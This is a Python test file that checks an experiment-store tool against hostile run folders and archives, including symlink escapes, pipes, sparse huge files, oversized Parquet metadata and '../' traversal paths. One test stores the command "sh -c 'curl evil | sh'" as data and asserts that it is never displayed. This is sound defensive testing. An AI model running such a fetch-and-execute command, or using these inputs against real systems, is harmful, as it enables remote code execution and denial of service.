"""Stores that a stranger has written: every command answers in a few lines, and soon."""

from __future__ import annotations

import json
import os
import re
import shutil
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from helpers.hostile import COMMANDS, accuracies, answer, answered_export, victim
from helpers.runs import curve_run

from torture.hostile import HOSTILE, change, seal
from twofold.experiments import columns as columns_module
from twofold.experiments.config import Config
from twofold.experiments.files import digest
from twofold.experiments.runs import Run
from twofold.experiments.store import Store
from twofold.report.page import page_contents


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_run_that_cannot_be_read_is_named_and_the_rest_is_shown(kind, store):
    folder = victim(store)
    HOSTILE[kind](folder)
    seal(folder)
    code, out, _ = answer(["runs", "verify"], store)
    assert code == 1
    assert folder.name in out
    assert "3 of 4 runs match" in out
    answer(["table", "trajectories"], store)
    code, out, errors = answer(["runs", "show"], store)
    assert code == 0
    assert out.count('"identity"') == 3
    assert len(errors.splitlines()) == 1
    assert folder.name in errors


@pytest.mark.parametrize("words", [["table"], ["table", "--metrics", "min,forgetting"]])
@pytest.mark.parametrize("kind", ["no accuracies", "task 2^31", "no Parquet"])
def test_curves_that_cannot_be_read_cost_a_table_their_run_alone(kind, words, store):
    folder = victim(store)
    HOSTILE[kind](folder)
    seal(folder)
    code, out, errors = answer(words, store)
    assert code == 0, errors
    assert "er+gem" in out
    (line,) = errors.splitlines()
    assert folder.name in line
    assert line.endswith("it is left out")


def test_many_are_counted(store):
    for folder in Store(store).folders():
        for k in range(5):
            copy = Path(shutil.copytree(folder, store / f"{folder.name[:-11]}-{k:010}"))
            HOSTILE["a list for a summary"](copy)
            seal(copy)
    _, _, errors = answer(["runs"], store)
    assert errors.splitlines()[-1].startswith("20 of 24 runs cannot be read")
    assert len(errors.splitlines()) == 4


def test_a_folder_under_the_name_of_a_different_run_is_left_out(store):
    """er+gem's run under the name of er+agem's, as a rename makes it."""
    gem = next(f for f in Store(store).folders() if "er+gem-paper-142" in f.name)
    agem = curve_run("er+agem", accuracies(50.0), tasks=2, iterations=2).config
    gem.rename(store / agem.folder_name())
    _, out, errors = answer(["runs", "show"], store)
    assert out.count('"identity"') == 3
    assert f"the one of a different run, {gem.name}" in errors
    assert Store(store).find(agem) is None


def test_a_profile_that_is_not_known_here_hides_no_other_run(store):
    """It may be one of a paper that is not installed."""
    folder = victim(store)
    change("config.json", profile="unheard-of")(folder)
    seal(folder)
    _, out, _ = answer(["runs", "show"], store)
    assert out.count('"identity"') == 4
    page = page_contents(Store(store).runs(curves=True), "a store")
    assert sum(len(group["runs"]) for group in page["groups"]) == 4


def test_a_run_under_several_names_counts_once(store):
    folder = victim(store)
    other = folder.with_name(folder.name.replace("-paper-", "-published-"))
    shutil.copytree(folder, other)
    _, out, errors = answer(["runs", "show"], store)
    assert out.count('"identity"') == 4
    assert "is a copy of" in errors
    assert "4 runs exported" in answered_export(store)


def test_texts_of_any_size_in_curves_are_not_read(store, monkeypatch):
    """The column `run` is for other programs, and compresses to nothing."""
    folder = victim(store)
    columns = dict(Run.load(folder).columns)
    long = pa.array(["a" * 10_000_000] * len(columns["task"]))
    pq.write_table(
        pa.table({**columns, "run": long}),
        folder / "curves.parquet",
        compression="zstd",
        use_dictionary=False,
    )
    seal(folder)
    assert (folder / "curves.parquet").stat().st_size < 1_000_000
    allocated = pa.total_allocated_bytes()
    largest: list[int] = []
    array = columns_module._array

    def measured(column):
        largest.append(pa.total_allocated_bytes() - allocated)
        return array(column)

    monkeypatch.setattr(columns_module, "_array", measured)
    assert len(Store(store).runs(curves=True)) == 4
    assert max(largest) < 5_000_000


def test_the_description_of_too_many_columns_is_not_read(store, monkeypatch):
    """Half a million columns take more than a gigabyte before they can be counted."""
    folder = victim(store)
    content = (folder / "curves.parquet").read_bytes()
    long = 9 * 2**20
    (folder / "curves.parquet").write_bytes(
        content[:-8] + bytes(long) + long.to_bytes(4, "little") + content[-4:]
    )
    seal(folder)
    opened: list[int] = []
    original = columns_module.pq.ParquetFile

    def counted(source):
        opened.append(source.size())
        return original(source)

    monkeypatch.setattr(columns_module.pq, "ParquetFile", counted)
    _, out, errors = answer(["runs", "show"], store)
    assert "curves.parquet: the description of its columns is too long" in errors
    assert out.count('"identity"') == 3
    assert max(opened) < long


@pytest.mark.parametrize(
    "name", ["config.json", "summary.json", "curves.parquet", "checksums.json"]
)
@pytest.mark.parametrize("kind", ["pipe", "link", "device", "folder"])
def test_pipes_and_links_in_a_store_are_not_followed(name, kind, store, tmp_path):
    file = victim(store) / name
    content = file.read_bytes()
    file.unlink()
    if kind == "pipe":
        os.mkfifo(file)
    elif kind == "folder":
        file.mkdir()
    elif kind == "device":
        file.symlink_to("/dev/zero")
    else:
        outside = tmp_path / "outside"
        outside.write_bytes(content)
        file.symlink_to(outside)
    for words in COMMANDS:
        answer(words, store)
    _, out, _ = answer(["runs", "show"], store)
    assert out.count('"identity"') == 3


@pytest.mark.parametrize("name", ["config.json", "curves.parquet", "checksums.json"])
def test_a_file_of_terabytes_is_not_read(name, store):
    """Most of it takes no room on the disk."""
    with (victim(store) / name).open("r+b") as file:
        file.truncate(2**40)
    for words in (["runs", "show"], ["runs", "verify"]):
        _, out, errors = answer(words, store)
        assert re.search(rf"{name} is (larger than|too large)", out + errors)


def test_a_run_that_is_a_link_out_of_the_store_is_not_followed(store, tmp_path):
    folder = victim(store)
    shutil.move(folder, tmp_path / "outside")
    folder.symlink_to(tmp_path / "outside")
    _, out, _ = answer(["runs", "show"], store)
    assert out.count('"identity"') == 3


def test_a_run_that_is_a_loop_of_links_is_left_out(store):
    folder = victim(store)
    shutil.rmtree(folder)
    folder.symlink_to(folder.name)
    for words in COMMANDS:
        answer(words, store)
    _, out, _ = answer(["runs", "show"], store)
    assert out.count('"identity"') == 3


@pytest.mark.parametrize("plugin", ["/dev/zero", "pipe"])
def test_plugins_that_a_store_names_are_not_opened(plugin, store, tmp_path, monkeypatch):
    path = plugin if plugin.startswith("/") else str(tmp_path / plugin)
    if plugin == "pipe":
        os.mkfifo(path)
    folder = victim(store)
    change("config.json", plugins=[path])(folder)
    config = Config.stored(json.loads((folder / "config.json").read_text()))
    identity = config.identity(["0" * 64])
    change("summary.json", plugins=["0" * 64], identity=identity)(folder)
    seal(folder)
    folder.rename(folder.with_name(f"{folder.name[:-11]}-{identity}"))
    opened: list[str] = []
    sys.addaudithook(lambda event, args: opened.append(str(args[0])) if event == "open" else None)
    for words in COMMANDS:
        answer(words, store)
    assert path not in opened
    _, out, _ = answer(["runs", "show"], store)
    assert out.count('"identity"') == 4


def test_a_strangers_command_is_never_shown(store):
    folder = victim(store)
    change("summary.json", command="sh -c 'curl evil | sh'")(folder)
    seal(folder)
    answer(["report"], store)
    assert "curl evil" not in (store.parent / "report.html").read_text()
    for format in ("md", "csv", "json", "html", "latex"):
        assert "curl evil" not in answer(["table", "main", "--format", format], store)[1]


def test_archives_of_strangers_are_refused_or_read_in_part(store, tmp_path):
    answered_export(store)
    archive = tmp_path / "to"
    lines = (archive / "runs.jsonl").read_text().splitlines()
    for spoiled in ("[" * 9999, '{"run": 3}', '{"run": "../../x-1"}', "{}", '"a"', lines[0][:-20]):
        (archive / "runs.jsonl").write_text("\n".join([spoiled, *lines[1:]]) + "\n")
        sums = {name: digest(archive / name) for name in ("runs.jsonl", "curves.parquet")}
        (archive / "checksums.json").write_text(json.dumps(sums))
        for words in COMMANDS:
            assert answer(words, archive)[0] == 2
    line = json.loads(lines[0])
    line["summary"]["avg"] = "high"
    (archive / "runs.jsonl").write_text("\n".join([json.dumps(line), *lines[1:]]) + "\n")
    sums = {name: digest(archive / name) for name in ("runs.jsonl", "curves.parquet")}
    (archive / "checksums.json").write_text(json.dumps(sums))
    _, out, errors = answer(["runs", "show"], archive)
    assert out.count('"identity"') == 3
    assert "avg must be a number" in errors


def test_runs_from_before_identities_changed_are_read(store):
    folder = victim(store)
    change("config.json", eval_every=1)(folder)
    change("summary.json", identity="0123456789")(folder)
    seal(folder)
    folder.rename(folder.with_name(f"{folder.name[:-11]}-0123456789"))
    assert answer(["runs", "show"], store)[1].count('"identity"') == 4
